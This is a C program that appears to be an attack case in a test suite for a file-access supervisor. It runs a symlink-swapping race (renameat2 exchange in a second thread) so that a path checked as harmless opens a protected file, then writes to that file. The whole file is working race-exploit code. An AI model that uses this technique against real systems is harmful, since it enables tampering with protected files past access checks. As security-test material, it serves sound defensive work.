/*
 * A path that means an innocent file when it is checked and the protected one when it is used.
 * usage: file_race FILE SCRATCH-DIRECTORY TRIES
 * A second thread exchanges two symbolic links all the time; this one opens the path for writing. Reached when the
 * protected file has been written. The runner looks whether an event names it.
 */
#include "attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <sys/stat.h>
#include <time.h>

static char good[4096], bad[4096], path[4096];
static volatile int running, stop;

static void *swap(void *unused) {
    (void)unused;
    while (!stop) {
        syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, bad, 2 /* RENAME_EXCHANGE */);
        running = 1;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4)
        cannot("usage: file_race FILE SCRATCH-DIRECTORY TRIES");
    struct stat wanted, got;
    if (stat(argv[1], &wanted) != 0)
        cannot("%s: %s", argv[1], strerror(errno));
    snprintf(good, sizeof good, "%s/innocent", argv[2]);
    snprintf(bad, sizeof bad, "%s/link-bad", argv[2]);
    snprintf(path, sizeof path, "%s/link-used", argv[2]);
    close(open(good, O_CREAT | O_WRONLY, 0644));
    unlink(bad);
    unlink(path);
    if (symlink(argv[1], bad) != 0 || symlink(good, path) != 0)
        stopped_at("symlink");
    pthread_t thread;
    pthread_create(&thread, NULL, swap, NULL);
    while (!running)
        usleep(100);
    /* a single hit proves it; a supervisor that is slower than the swap takes a while to lose */
    time_t until = time(NULL) + 6;
    int hits = 0;
    for (int i = 0; i < atoi(argv[3]) || (hits == 0 && time(NULL) < until); i++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0 && fstat(fd, &got) == 0 && got.st_ino == wanted.st_ino && write(fd, "evil\n", 5) == 5)
            hits++;
        close(fd);
    }
    stop = 1;
    pthread_join(thread, NULL);
    if (hits == 0)
        stopped("the protected file was never opened");
    reached("%d opens", hits);
}
